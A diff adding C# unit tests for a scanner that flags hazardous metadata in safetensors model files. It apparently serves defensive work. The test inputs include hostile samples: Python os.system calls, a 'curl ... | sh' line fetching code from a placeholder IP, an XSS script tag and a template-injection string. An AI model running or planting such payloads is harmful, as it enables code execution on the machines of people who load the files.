@@ -10,6 +10,36 @@ public class TensorHeaderTests
 {
     private const string Valid = """{"__metadata__":{"a":"b"},"x":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"y":{"dtype":"BF16","shape":[],"data_offsets":[8,10]}}   """;
 
+    [Theory]
+    [InlineData("import os\nos.system('id')")]
+    [InlineData("__import__('os').system('id')")]
+    [InlineData("#!/bin/sh\nid\n")]
+    [InlineData("curl http://203.0.113.1/x | sh")]
+    [InlineData("<script>alert(1)</script>")]
+    [InlineData("{{ cycler.__init__.__globals__.os }}")]
+    public void Metadata_that_are_a_program_are_a_hazard(string value) =>
+        Assert.Contains(Samples.Read(Samples.SafeTensors(WithNote(value), 0), "m.safetensors").Hazards, h => h.Effect > HazardEffect.Opaque);
+
+    [Theory]
+    [InlineData("You may eval(x) it; from a checkpoint, import it.")]
+    [InlineData("{\"import os\": {\"1girl\": 3}}")]
+    [InlineData("https://example.com/model?download=true")]
+    [InlineData("abababababababababababababababababababababababababababababababab")]
+    [InlineData("imported from a run of the trainer")]
+    [InlineData("curl is used to fetch the data, bash to unpack them")]
+    public void Metadata_that_speak_of_programs_are_none(string value) =>
+        Assert.Empty(Samples.Read(Samples.SafeTensors(WithNote(value), 0), "m.safetensors").Hazards);
+
+    [Fact]
+    public void Bytes_in_a_hole_of_safetensors_are_more_than_an_oddity()
+    {
+        const string header = """{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]}}""";
+        Assert.Contains(Samples.Read([.. Samples.SafeTensors(header, 2), 1, 2, 3], "m.safetensors").HeaderDefects, d => d.Kind == HeaderDefectKind.Malformed);
+        Assert.Contains(Samples.Read([.. Samples.SafeTensors(header, 2), 0, 0, 0], "m.safetensors").HeaderDefects, d => d.Kind == HeaderDefectKind.Hole);
+    }
+
+    private static string WithNote(string value) => $$$"""{"__metadata__":{"note":{{{System.Text.Json.JsonSerializer.Serialize(value)}}}}}""";
+
     [Fact]
     public void A_sound_safetensors_file_is_clean()
     {
